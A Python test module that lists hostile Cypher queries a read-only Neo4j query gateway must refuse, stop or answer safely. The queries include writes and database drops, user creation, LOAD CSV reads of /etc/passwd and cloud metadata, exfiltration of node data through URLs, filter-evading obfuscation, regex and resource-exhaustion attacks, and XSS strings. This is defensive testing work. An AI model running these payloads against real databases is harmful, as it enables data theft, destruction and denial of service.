"""What somebody would try who means harm: each refused, or bounded, or harmless."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from typing import Any

DEEP = 400


@dataclass(frozen=True, slots=True)
class Case:
    """One attempt. `ends` are the ways in which it may end: "refused", "stopped", "answered".

    Where it must be refused, `reasons` are those for which it may be: what is refused for another
    would be let through once that is mended.
    """

    name: str
    cypher: str
    ends: tuple[str, ...] = ("refused",)
    parameters: Mapping[str, Any] = field(default_factory=dict)
    reasons: tuple[str, ...] = ()


def cases(port: int) -> Iterator[Case]:
    """All of them; `port` is one on this machine where nobody should call."""
    for group, reasons in GROUPS:
        for cypher in group:
            text = cypher.replace("PORT", str(port))
            name = " ".join(text.split())[:70]
            yield Case(name, text, parameters=values(port), reasons=reasons)
    yield from BOUNDED


def values(port: int) -> Mapping[str, Any]:
    """What an attempt may be given: else the database would refuse it for want of a value."""
    return {
        **{"what": "QUERIES", "section": "QUERIES", "label": "Suppressed", "f": False},
        "url": f"http://127.0.0.1:{port}/x",
    }


WRITES = (
    "CREATE (:X)",
    "MATCH (n) SET n.x = 1",
    "MATCH (n:User) REMOVE n.name",
    "MATCH (n) DETACH DELETE n",
    "MATCH (n:User) WITH n LIMIT 1 MERGE (m:User {id: n.id}) RETURN m",
    "FOREACH (x IN [1] | CREATE (:X))",
    "MATCH (n:User) FOREACH (x IN [1] | SET n.z = 1)",
    "MATCH (n:User) CALL (n) { SET n.z = 1 }",
    "MATCH (n:User) CALL (n) { SET n.z = 1 } IN TRANSACTIONS OF 1 ROWS",
    "MATCH (n:User) CALL (n) { RETURN 1 AS one } IN CONCURRENT TRANSACTIONS RETURN one",
    "RETURN 1 AS a UNION CREATE (n:X) RETURN 1 AS a",
    "/* RETURN 1 */ CREATE (:X) /* RETURN 2 */",
    "// RETURN 1\nCREATE (:X)",
    "RETURN '//' AS a //\nUNION MATCH (n) DELETE n RETURN 1 AS a",
    "EXPLAIN CREATE (:X)",
    "PROFILE MATCH (n) RETURN n",
    "/* x */ PROFILE CREATE (:X)",
    "RETURN 1; CREATE (:X)",
    "CYPHER runtime=slotted CREATE (:X)",
    "CYPHER 5 CREATE (:X)",
    r"\u0043REATE (:X)",
    r"RETURN '\u0027 CREATE (:X) //'",
    "ＣＲＥＡＴＥ (:X)",
    "MATCH (a:User), (b:User) WITH a, b LIMIT 1 CREATE (a)-[:FOLLOWS]->(b)",
    "MATCH ()-[r]->() DELETE r",
    "MATCH (n:User) SET n:Admin",
    "MATCH (n:User) SET n = {}",
    "MATCH (n:User) SET n += {handle: 'x'}",
    "INSERT (:X)",
    "MATCH (n:User) NODETACH DELETE n",
)
SETUP = (
    "CREATE INDEX evil FOR (n:User) ON (n.name)",
    "DROP CONSTRAINT user_id",
    "CREATE CONSTRAINT user_id IF NOT EXISTS FOR (p:User) REQUIRE p.id IS UNIQUE",
    "CALL db.index.vector.createNodeIndex('v', 'User', 'x', 10, 'cosine')",
    "CALL db.createLabel('Evil')",
    "CALL db.createProperty('evil')",
    "CALL db.createRelationshipType('EVIL')",
    "CALL db.clearQueryCaches()",
    "CALL db.prepareForReplanning()",
    "CALL db.resampleIndex('user_id')",
    "CALL db.stats.retrieve('QUERIES')",
    "CALL db.stats.retrieve($what)",
    "CALL db.stats.retrieve",
    "CALL db.stats.clear('QUERIES')",
    "CALL tx.setMetaData({bench: 'x'})",
    "CALL db.awaitIndexes(300)",
    "SHOW INDEXES",
    "SHOW FUNCTIONS",
)
ADMINISTRATION = (
    "CREATE USER evil SET PASSWORD 'evil-evil'",
    "ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'b'",
    "DROP USER neo4j",
    "SHOW USERS",
    "SHOW SETTINGS",
    "CALL dbms.listConfig()",
    "SHOW TRANSACTIONS",
    "SHOW TRANSACTIONS YIELD currentQuery RETURN currentQuery",
    "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
    "CALL dbms.listConnections()",
    "CALL dbms.killConnections(['bolt-1'])",
    "CALL dbms /* hidden */ . /**/ killConnections(['bolt-1'])",
    "CALL `dbms`.`killConnections`(['bolt-1'])",
    "CALL dbms.queryJmx('*:*')",
    "CALL dbms.setConfigValue('db.transaction.timeout', '0')",
    "USE system SHOW USERS",
    "CALL { USE system RETURN 1 AS x } RETURN x",
    "USE graph.byName('system') RETURN 1",
    "CREATE DATABASE evil",
    "STOP DATABASE neo4j",
    "DROP DATABASE neo4j",
    "GRANT ROLE admin TO neo4j",
)
ELSEWHERE = (
    "LOAD CSV FROM 'file:///conf/neo4j.conf' AS line RETURN line",
    "LOAD CSV FROM 'file:///../../../../etc/passwd' AS line RETURN line",
    "LOAD CSV FROM 'http://127.0.0.1:PORT/x' AS line RETURN line",
    "LOAD CSV FROM 'http://localhost:PORT/x' AS line RETURN line",
    "LOAD CSV FROM 'http://[::ffff:127.0.0.1]:PORT/x' AS line RETURN line",
    "LOAD CSV FROM 'http://2130706433:PORT/x' AS line RETURN line",
    "LOAD CSV FROM 'http://169.254.169.254/latest/meta-data' AS line RETURN line",
    "MATCH (n:User) LOAD CSV FROM 'http://127.0.0.1:PORT/?d=' + n.name AS line RETURN line",
    "MATCH (n:User) CALL (n) { LOAD CSV FROM 'http://127.0.0.1:PORT/' AS l RETURN l } RETURN l",
    "MATCH (n:User) WHERE EXISTS { LOAD CSV FROM 'http://127.0.0.1:PORT/' AS l RETURN l } RETURN n",
    "LOAD CSV FROM 'ftp://127.0.0.1:PORT/x' AS line RETURN line",
    "LOAD CSV FROM 'jar:http://127.0.0.1:PORT/x!/y' AS line RETURN line",
    "LOAD /* */ CSV WITH HEADERS FROM $url AS line RETURN line",
)
GRAPH_DATA_SCIENCE = (
    "CALL gds.graph.project('evil', '*', '*')",
    "CALL gds.graph.drop('influence_topics')",
    "CALL gds.graph.generate('big', 2000000000, 10)",
    "MATCH (a:User)-->(b:User) RETURN gds.graph.project('evil', a, b)",
    "MATCH (a:User)-->(b:User) RETURN `gds` . /* */ `graph`.project('evil', a, b)",
    "MATCH (a:User)-->(b:User) WITH GDS.graph.project('evil', a, b) AS g RETURN g",
    "CALL gds.pageRank.mutate('g', {mutateProperty: 'x'})",
    "CALL gds.pageRank.write('g', {writeProperty: 'x'})",
    "CALL gds.pageRank.stream('g')",
    "CALL gds.graph.nodeProperties.write('g', ['x'])",
    "CALL gds.graph.export('g', {dbName: 'evildb'})",
    "CALL gds.graph.export.csv('g', {exportName: 'evil'})",
    "CALL gds.beta.pipeline.nodeClassification.create('evil')",
    "CALL gds.model.drop('m')",
    "CALL gds.debug.sysInfo()",
    "CALL gds.userLog()",
    "RETURN gds.version()",
    "RETURN gds.util.asNode(0)",
    "RETURN apoc.version()",
    "CALL apoc.load.json('http://127.0.0.1/')",
    "MATCH (n:User) WHERE EXISTS { CALL gds.graph.list() YIELD graphName RETURN 1 } RETURN n",
)
TOO_DEEP = (
    "WITH range(1, 40) AS a RETURN size(reduce(s = 'a', x IN a | s + s))",
    "RETURN reduce(s = 'a', x IN range(1, 40) | s + '' + (s))",
    "RETURN reduce(s = 'ab', x IN range(1, 20) | replace(s, 'a', 'aaaaaaaa'))",
    "RETURN reduce(s = [1], x IN range(1, 40) | [y IN s | s])",
    "WITH 'aaaa' AS s " + "WITH s + s AS s " * 30 + "RETURN size(s)",
    "WITH 'aaaa' AS s " + "WITH s || s AS s " * 30 + "RETURN size(s)",
    "WITH 1 AS s " + "WITH [s, s] AS s " * 30 + "RETURN DISTINCT s",
    "WITH 1 AS s " + "WITH {a: s, b: s} AS s " * 30 + "RETURN DISTINCT s",
    "RETURN [x IN range(1, 50000) | [y IN range(1, 50000) | x * y]]",
    "WITH range(1, 1000000) AS r RETURN [x IN r | [y IN r | x * y]]",
    "RETURN size([x IN range(1, 1000000000) | x])",
    "WITH 1000000000 AS n RETURN size([x IN range(1, n) | x])",
    "RETURN size([x IN range(1, toInteger('9' + '99999999')) | x])",
    "RETURN any(x IN range(1, 100000) WHERE all(y IN range(1, 100000) WHERE x > y))",
    f"RETURN {'(' * DEEP}1{')' * DEEP}",
    f"RETURN {'[' * DEEP}1{']' * DEEP}",
    f"RETURN {'{a: ' * 200}1{'}' * 200}",
    f"RETURN {'NOT ' * 1000}true",
    f"RETURN {'NOT /* x */ ' * 100}true",
    f"RETURN {'- ' * 1000}1",
    f"MATCH (n:{'!' * 1000}User) RETURN n",
    "MATCH (n:User) WHERE " + "COUNT { MATCH (n) WHERE " * 30 + "true" + "} > 0" * 30 + " RETURN n",
    "MATCH (n:User) WHERE " + " OR ".join(f"n.id = '{i}'" for i in range(420)) + " RETURN n",
    f"RETURN {'CASE WHEN true THEN ' * 200}1{' END' * 200}",
    f"RETURN {' + '.join(['1'] * 3000)} AS x",
    f"MATCH {'()--' * 500}() RETURN 1",
    f"RETURN '{'x' * 5_000_000}'",
    "RETURN 'a",
    "RETURN /* a",
    "RETURN (1",
    "RETURN 1)",
    "",
    ";",
    "   // only a comment",
    "MATCH (n:User) WHERE n.name =~ '(a+)+$' RETURN n",
    "MATCH (n:User) WHERE n.name =~ '" + "(.*a){25}" + "' RETURN n",
    "MATCH (n:User) WHERE n.name =~ '(a' + '+)+' RETURN n",
)
INTERNAL = (
    "MATCH (n:Suppressed) RETURN n",
    "MATCH (n:`Suppressed`) RETURN n.hash",
    "MATCH (n:User|Suppressed) RETURN n",
    "MATCH (n) WHERE n:Suppressed RETURN n",
    "MATCH (n) WHERE n:User OR n:Suppressed RETURN n",
    "MATCH (n IS Suppressed) RETURN n",
    "MATCH (n:$($label)) RETURN n",
    "MATCH (n:$all($label)) RETURN n",
    "MATCH (n:$any($label)) RETURN n",
    "MATCH (n) WHERE n:$($label) RETURN n",
    "WITH 'Suppr' + 'essed' AS label MATCH (n:$(label)) RETURN n",
    "RETURN COUNT { (:$($label)) } AS n",
    "MATCH (n) WHERE n.`x AND NOT n:Suppressed AND y` IS NULL RETURN n",
    "MATCH (n) WHERE n.`x`` AND NOT n:Suppressed AND ``y` IS NULL RETURN n",
    "RETURN COUNT { (:Suppressed) } AS n",
    "MATCH (n) WHERE NOT n:Suppressed OR true RETURN n",
    "MATCH (n:!User&!Post&!Topic&!Run&!Load) RETURN n",
)
BROKEN = ("quotation", "brackets", "empty")
GROUPS = (
    (WRITES, ("writes", "operator", "prefix", "statements", "escapes", "syntax")),
    (SETUP, ("procedure", "writes", "operator")),
    # What Neo4j's Community edition has not at all, it refuses itself.
    (ADMINISTRATION, ("writes", "operator", "procedure", "prefix", "database")),
    (ELSEWHERE, ("operator",)),
    (GRAPH_DATA_SCIENCE, ("procedure",)),
    (TOO_DEEP, ("growth", "pattern", "depth", "run", "size", "length", *BROKEN)),
    # Labels that are put together: the one to look them up is not known, nor is it elsewhere.
    (INTERNAL, ("internal", "operator", "syntax")),
)
# None of these may be refused without need; each must end, and show nothing internal.
BOUNDED = (
    Case("every internal node", "MATCH (n) WHERE n.hash IS NOT NULL RETURN n", ("answered",)),
    Case(
        "a property's name put together",
        "MATCH (n) WITH n['ha' + 'sh'] AS hash WHERE hash IS NOT NULL RETURN hash",
        ("answered",),
    ),
    Case(
        "a label or anything",
        "MATCH (n) WHERE n.hash > '' OR n.name > '' AND n:User AND n.id > '' RETURN n",
        ("answered", "refused"),
    ),
    Case(
        "a label in brackets, denied",
        "MATCH (n) WHERE (n.x IS NULL AND n:User AND n.y IS NULL) = $f RETURN n",
        ("answered", "refused"),
        {"f": False},
    ),
    Case(
        "another's label",
        "MATCH (a:User) WITH a LIMIT 1 MATCH (`a b`) WHERE a:User RETURN `a b`",
        ("answered", "refused"),
    ),
    Case("by number", "MATCH (n) WHERE id(n) >= 0 RETURN n", ("answered", "refused")),
    Case(
        "by each number",
        "UNWIND range(0, 5000) AS i MATCH (n) WHERE id(n) = i RETURN n.hash",
        ("answered", "refused"),
    ),
    Case("optional", "OPTIONAL MATCH (n) RETURN n.hash", ("answered",)),
    Case("no steps", "MATCH (n)-[*0..1]-(m) RETURN n.hash, m.hash", ("answered", "refused")),
    Case("no steps, new", "MATCH (n) (()-->()){0,1} (m) RETURN m.hash", ("answered", "stopped")),
    Case("labels as texts", "MATCH (n) WHERE 'Suppressed' IN labels(n) RETURN n", ("answered",)),
    Case(
        "inside of a subquery",
        "RETURN COLLECT { MATCH (n) RETURN n.hash } AS hashes",
        ("answered", "refused"),
    ),
    Case("counted", "MATCH (a), (b), (c), (d) RETURN count(*) AS n", ("answered", "stopped")),
    Case("counted, not stored", "MATCH (a), (b), (c), (d) RETURN count(a.x) AS n", ("stopped",)),
    Case("rows without end", "UNWIND range(1, 1000000000) AS i RETURN sum(i)", ("stopped",)),
    Case("memory", "UNWIND range(1, 100000000) AS i RETURN collect(i)", ("stopped",)),
    Case("sort", "UNWIND range(1, 40000000) AS i RETURN i ORDER BY rand()", ("stopped",)),
    Case("paths without end", "MATCH p = ()-[*1..20]-() RETURN count(p)", ("stopped",)),
    Case(
        "a clique of nine",
        "MATCH (a)--(b), (a)--(c), (b)--(c), (a)--(d), (b)--(d), (c)--(d), (a)--(e), (b)--(e), "
        "(c)--(e), (d)--(e), (f)--(a), (f)--(b), (f)--(c), (g)--(h), (h)--(i) RETURN count(*)",
        ("stopped", "answered"),
    ),
    Case("rows to the limit", "UNWIND range(1, 100000000) AS i RETURN i", ("answered",)),
    Case("one long row", "RETURN range(1, 1000000) AS r", ("answered", "stopped")),
    Case(
        "deep",
        "RETURN reduce(a = [], x IN range(1, 5000) | [a]) AS deep",
        ("answered", "stopped", "refused"),
    ),
    Case(
        "values that JSON has not",
        "RETURN 0.0 / 0.0 AS nan, 1.0 / 0.0 AS inf, 9007199254740993 AS big, "
        "date('+999999999-01-01') AS far, datetime() AS now, point({x: 1, y: 2}) AS point, "
        "duration('P1DT1S') AS d",
        ("answered",),
    ),
    Case("texts", r"RETURN '\u0000<script>alert(1)</script>\ud800' AS x", ("answered",)),
    Case(
        "names as columns", "RETURN 1 AS `<script>`, 2 AS `a``b`, 3 AS `__proto__`", ("answered",)
    ),
    Case(
        "injected as a value",
        "MATCH (n:User {id: $id}) RETURN n",
        ("answered",),
        {"id": "x'}) DETACH DELETE n //"},
    ),
    Case("of no file", "RETURN file() AS file, linenumber() AS line", ("answered",)),
    Case("no value", "RETURN $missing", ("refused",)),
    Case("divided by nothing", "RETURN 1 / 0", ("refused",)),
)
